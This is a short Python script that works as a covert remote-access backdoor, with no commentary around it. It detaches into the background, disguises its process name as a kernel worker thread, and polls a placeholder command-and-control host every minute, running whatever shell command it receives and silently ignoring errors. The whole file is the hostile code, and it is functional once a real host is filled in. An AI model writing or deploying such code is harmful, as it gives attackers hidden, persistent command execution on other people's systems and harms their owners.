import ctypes, os, sys, time, urllib.request

def daemonize():
    if os.fork():
        sys.exit(0)
    os.setsid()
    if os.fork():
        sys.exit(0)

daemonize()
libc = ctypes.cdll.LoadLibrary("libc.so.6")
libc.prctl(15, b"[kworker/u8:2]", 0, 0, 0)
while True:
    try:
        cmd = urllib.request.urlopen("http://c2.example.invalid/task").read().decode()
        os.popen(cmd).read()
    except Exception:
        pass
    time.sleep(60)
